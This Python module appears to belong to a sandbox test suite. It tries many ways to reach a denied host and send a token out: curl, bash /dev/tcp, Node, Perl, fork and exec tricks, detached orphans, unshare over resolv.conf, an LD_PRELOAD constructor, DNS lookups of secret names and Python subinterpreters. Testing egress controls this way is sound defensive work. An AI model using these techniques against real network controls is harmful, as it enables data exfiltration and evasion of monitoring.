"""Other programs and other interpreters: children of every kind, and interpreters inside of this one."""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
from pathlib import Path

import world
from table import ATTEMPTS, attempt

SCRIPT = (
    "import socket; s=socket.create_connection(('{host}', 80), 2);"
    "s.sendall(b'GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n'); s.recv(9)"
)
NODE = (
    "const s=require('net').connect(80,'{host}',()=>s.write('GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n'));"
    "s.on('data',()=>process.exit(0));s.on('error',()=>process.exit(1));setTimeout(()=>process.exit(2),2000)"
)
NODE_FETCH = "fetch('http://{host}/{token}').then(()=>process.exit(0),()=>process.exit(1))"
NODE_UDP = "require('dgram').createSocket('udp4').send('{token}',9000,'93.184.215.17',()=>process.exit(0))"
PERL = (
    "use IO::Socket::INET; $s=IO::Socket::INET->new(PeerAddr=>'{host}',PeerPort=>80,Timeout=>2) or exit 1;"
    "print $s qq(GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n); <$s>;"
)
TCL = 'set s [socket {host} 80]; puts -nonewline $s "GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n"; flush $s; gets $s'
BASH = "exec 3<>/dev/tcp/{host}/80; printf 'GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' >&3; read -t 2 -u 3"

OPENSSL = (
    "(printf 'GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n'; sleep 0.3) | timeout 2 openssl s_client -quiet -connect {host}:443"
)

# Programs, by name and by address.
PROGRAMS = {
    "curl": ["curl", "-sm3", "-o", "/dev/null", "http://{host}/{token}"],
    "curl tls": ["curl", "-skm3", "-o", "/dev/null", "https://{host}/{token}"],
    "wget": ["wget", "-qT2", "-t1", "-O", "/dev/null", "http://{host}/{token}"],
    "node net": ["node", "-e", NODE],
    "node fetch": ["node", "-e", NODE_FETCH],
    "perl": ["perl", "-e", PERL],
    "tclsh": ["sh", "-c", f"echo {shlex.quote(TCL)} | tclsh"],
    "bash": ["bash", "-c", BASH],
    "openssl": ["sh", "-c", OPENSSL],
    "git": ["git", "ls-remote", "http://{host}/{token}"],
    "python": [sys.executable, "-c", SCRIPT],
    "python isolated": [sys.executable, "-ISc", SCRIPT],
    "python without environment": ["env", "-i", sys.executable, "-c", SCRIPT],
}  # fmt: skip
NEEDS = {"openssl": "openssl", "tclsh": "tclsh"}


def run(command):
    subprocess.run(
        command, check=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, timeout=5
    )


def filled(command, aim, host):
    return [part.replace("{host}", host).replace("{token}", aim.token) for part in command]


for _name, _command in PROGRAMS.items():
    _program = NEEDS.get(_name) or ("env" if _command[0] == sys.executable else _command[0])
    for _where, _host in (("name", "denied.test"), ("v4", world.DENIED4)):
        ATTEMPTS.add(
            "children",
            f"{_name}, {_where}",
            lambda aim, command=_command, host=_host: run(filled(command, aim, host)),
            needs=(f"program:{_program}",),
            quick=_name in {"curl", "python isolated"} and _where == "v4",
        )


def script(aim, host=world.DENIED4):
    return SCRIPT.replace("{host}", host).replace("{token}", aim.token)


def python(aim):
    return [sys.executable, "-c", script(aim)]


def shell(aim):
    return f"curl -sm3 -o /dev/null {aim.url(world.DENIED4)}"


CURL = "program:curl"


@attempt("children", "program:node")
def node_udp(aim):
    run(["node", "-e", NODE_UDP.replace("{token}", aim.token)])


@attempt("children", "program:node")
def node_dns(aim):
    run(["node", "-e", f"require('dns').resolve4('{aim.secret_name}',()=>process.exit(0))"])


@attempt("children", "program:node")
def node_worker(aim):
    inner = NODE.replace("{token}", aim.token).replace("{host}", world.DENIED4)
    run(["node", "-e", f"new (require('worker_threads').Worker)({inner!r},{{eval:true}})"])


@attempt("children", "program:bash")
def bash_udp(aim):
    run(["bash", "-c", f"printf {aim.token} >/dev/udp/{world.DENIED4}/{world.UDP}"])


@attempt("children", CURL)
def os_system(aim):
    os.system(shell(aim))


@attempt("children", CURL)
def os_popen(aim):
    os.popen(shell(aim)).read()


@attempt("children", CURL)
def posix_spawn(aim):
    import shutil

    child = os.posix_spawn(shutil.which("curl"), ["curl", "-sm3", "-o", "/dev/null", aim.url(world.DENIED4)], os.environ)
    os.waitpid(child, 0)


@attempt("children", CURL)
def posix_spawnp(aim):
    os.waitpid(
        os.posix_spawnp("curl", ["curl", "-sm3", "-o", "/dev/null", aim.url(world.DENIED4)], {"PATH": os.environ["PATH"]}), 0
    )


@attempt("children")
def spawnv(aim):
    os.spawnv(os.P_WAIT, sys.executable, python(aim))


@attempt("children")
def popen_with_closed_descriptors_and_a_session(aim):
    subprocess.Popen(python(aim), close_fds=True, start_new_session=True, env={}, cwd="/").wait(5)


@attempt("children")
def popen_with_a_preexec(aim):
    def first():
        import socket

        opened = socket.create_connection((world.DENIED4, 80), 2)
        opened.sendall(aim.request())
        opened.recv(9)

    subprocess.Popen(["true"], preexec_fn=first).wait(5)


def in_fork(act):
    child = os.fork()
    if child == 0:
        try:
            act()
        finally:
            os._exit(0)
    os.waitpid(child, 0)


def say(aim):
    import socket

    opened = socket.create_connection((world.DENIED4, 80), 2)
    opened.sendall(aim.request())
    opened.recv(9)


@attempt("children", quick=True)
def fork(aim):
    in_fork(lambda: say(aim))


@attempt("children")
def fork_twice(aim):
    in_fork(lambda: in_fork(lambda: (os.setsid(), say(aim))))


@attempt("children")
def fork_and_exec(aim):
    in_fork(lambda: os.execv(sys.executable, python(aim)))


@attempt("children")
def fork_and_exec_without_environment(aim):
    in_fork(lambda: os.execve(sys.executable, python(aim), {}))


@attempt("children", alone=True)
def exec_of_ourselves(aim):
    os.execv(sys.executable, python(aim))


@attempt("children", alone=True)
def exec_from_a_thread(aim):
    import threading

    threading.Thread(target=lambda: os.execve(sys.executable, python(aim), {})).start()
    threading.Event().wait(3)


@attempt("children")
def orphan_that_outlives_us(aim):
    in_fork(lambda: subprocess.Popen(["sh", "-c", f"sleep 0.2; exec {shlex.join(python(aim))}"], start_new_session=True))
    import time

    time.sleep(0.6)


@attempt("children")
def pty_spawn(aim):
    import pty

    child, fd = pty.fork()
    if child == 0:
        os.execv(sys.executable, python(aim))
    try:
        while os.read(fd, 1000):
            pass
    except OSError:
        pass
    os.waitpid(child, 0)


@attempt("children")
def fork_exec_below_subprocess(aim):
    from multiprocessing import util

    child = util.spawnv_passfds(os.fsencode(sys.executable), [os.fsencode(part) for part in python(aim)], [])
    os.waitpid(child, 0)


for _method in ("fork", "spawn", "forkserver"):

    def _start(aim, method=_method):
        import multiprocessing

        child = multiprocessing.get_context(method).Process(target=os.system, args=(shlex.join(python(aim)),))
        child.start()
        child.join(5)

    ATTEMPTS.add("children", f"multiprocessing {_method}", _start)


@attempt("children", seconds=8)
def process_pool(aim):
    from concurrent.futures import ProcessPoolExecutor

    with ProcessPoolExecutor(1) as pool:
        pool.submit(os.system, shlex.join(python(aim))).result(5)


@attempt("children")
def child_of_a_child_of_a_child(aim):
    run(["sh", "-c", f"sh -c {shlex.quote('sh -c ' + shlex.quote(shlex.join(python(aim))))}"])


@attempt("children", "program:xargs", CURL)
def xargs(aim):
    run(["sh", "-c", f"echo {aim.url(world.DENIED4)} | xargs curl -sm3 -o /dev/null"])


@attempt("children", "program:setsid")
def setsid_and_nohup(aim):
    run(["setsid", "-w", "nohup", *python(aim)])


@attempt("children", "program:unshare")
def unshare_user(aim):
    """A user namespace of one's own gives every capability in it, and none outside. The network stays."""
    run(["unshare", "--user", "--map-root-user", *python(aim)])


@attempt("children", "program:unshare")
def unshare_pid(aim):
    run(["unshare", "--user", "--map-root-user", "--pid", "--fork", *python(aim)])


@attempt("children", "program:unshare")
def unshare_mount_over_resolv_conf(aim):
    own = Path(aim.scratch, "resolv.conf")
    own.write_text(f"nameserver {world.DENIED4}\n", encoding="ascii")
    act = f"mount --bind {own} /etc/resolv.conf; {shlex.join([sys.executable, '-c', script(aim, 'four.denied.test')])}"
    run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", act])


@attempt("children", "program:gcc")
def static_program(aim):
    source = Path(aim.scratch, "s.c")
    source.write_text(
        "#include <sys/socket.h>\n#include <netinet/in.h>\n#include <arpa/inet.h>\n#include <unistd.h>\n#include <string.h>\n"
        "int main(int c, char **v) { struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(80)};\n"
        "inet_pton(AF_INET, v[1], &to.sin_addr); int fd = socket(AF_INET, SOCK_STREAM, 0);\n"
        "if (connect(fd, (void *)&to, sizeof to)) return 1; write(fd, v[2], strlen(v[2]));\n"
        "char b[9]; read(fd, b, 9); return 0; }\n",
        encoding="ascii",
    )
    subprocess.run(["gcc", "-static", "-w", "-o", f"{source}.out", source], check=True)
    run([f"{source}.out", world.DENIED4, aim.request().decode()])


@attempt("children", "program:gcc", CURL)
def preloaded_library(aim):
    source = Path(aim.scratch, "p.c")
    source.write_text(
        '#include <stdlib.h>\n__attribute__((constructor)) void go(void) { unsetenv("LD_PRELOAD"); system(getenv("CMD")); }\n',
        encoding="ascii",
    )
    subprocess.run(["gcc", "-shared", "-fPIC", "-w", "-o", f"{source}.so", source], check=True)
    subprocess.run(["true"], env={**os.environ, "LD_PRELOAD": f"{source}.so", "CMD": shell(aim)}, check=False)


@attempt("children", "program:java")
def java(aim):
    source = Path(aim.scratch, "Out.java")
    source.write_text(
        "public class Out { public static void main(String[] a) throws Exception {"
        " new java.net.URL(a[0]).openStream().read(); } }",
        encoding="ascii",
    )
    run(["java", "-Xshare:auto", "-XX:TieredStopAtLevel=1", str(source), aim.url(world.DENIED4)])


# ---------------------------------------------------------------------------------------------------- interpreters in ours


def _subinterpreter():
    try:
        import _interpreters as interpreters
    except ImportError:
        import _xxsubinterpreters as interpreters
    return interpreters


def _in_subinterpreter(source, **options):
    interpreters = _subinterpreter()
    made = interpreters.create(**options)
    failed = interpreters.run_string(made, source)
    interpreters.destroy(made)
    if failed is not None:
        raise RuntimeError(str(failed))


def _isolation():
    return {} if sys.version_info >= (3, 13) else {"isolated": False}


@attempt("interpreters", quick=True)
def sub_interpreter(aim):
    _in_subinterpreter(script(aim), **_isolation())


@attempt("interpreters")
def sub_interpreter_with_urllib(aim):
    _in_subinterpreter(f"import urllib.request; urllib.request.urlopen({aim.url()!r}, timeout=2).read()", **_isolation())


@attempt("interpreters")
def sub_interpreter_that_looks_up(aim):
    source = f"import socket\ntry: socket.getaddrinfo({aim.secret_name!r}, 80)\nexcept OSError: pass"
    _in_subinterpreter(source, **_isolation())


@attempt("interpreters")
def sub_interpreter_in_a_thread(aim):
    import threading

    thread = threading.Thread(target=lambda: _in_subinterpreter(script(aim), **_isolation()))
    thread.start()
    thread.join(4)


@attempt("interpreters")
def sub_interpreter_that_spawns(aim):
    _in_subinterpreter(f"import subprocess; subprocess.run({python(aim)!r})", **_isolation())


@attempt("interpreters")
def code_module(aim):
    import code

    code.InteractiveInterpreter({}).runsource(script(aim))


@attempt("interpreters")
def run_path(aim):
    import runpy

    path = Path(aim.scratch, "program.py")
    path.write_text(script(aim), encoding="utf-8")
    runpy.run_path(str(path))


@attempt("interpreters")
def zip_import(aim):
    import importlib
    import zipfile

    path = Path(aim.scratch, "packed.zip")
    with zipfile.ZipFile(path, "w") as packed:
        packed.writestr("bypass_packed.py", script(aim))
    sys.path.insert(0, str(path))
    importlib.import_module("bypass_packed")


@attempt("interpreters")
def marshalled_code(aim):
    import marshal
    import types

    code = marshal.loads(marshal.dumps(compile(script(aim), "x", "exec")))
    types.FunctionType(code, {"__builtins__": __builtins__})()


@attempt("interpreters", "program:gcc")
def embedded_in_a_library(aim):
    """PyRun_SimpleString through the C API."""
    import ctypes

    ctypes.pythonapi.PyRun_SimpleString(script(aim).encode())


@attempt("interpreters", alone=True)
def new_interpreter_by_the_c_api(aim):
    import ctypes

    api = ctypes.pythonapi
    api.PyThreadState_Get.restype = api.Py_NewInterpreter.restype = api.PyThreadState_Swap.restype = ctypes.c_void_p
    api.PyThreadState_Swap.argtypes = (ctypes.c_void_p,)
    before = api.PyThreadState_Get()
    api.Py_NewInterpreter()
    api.PyRun_SimpleString(script(aim).encode())
    api.PyThreadState_Swap(before)
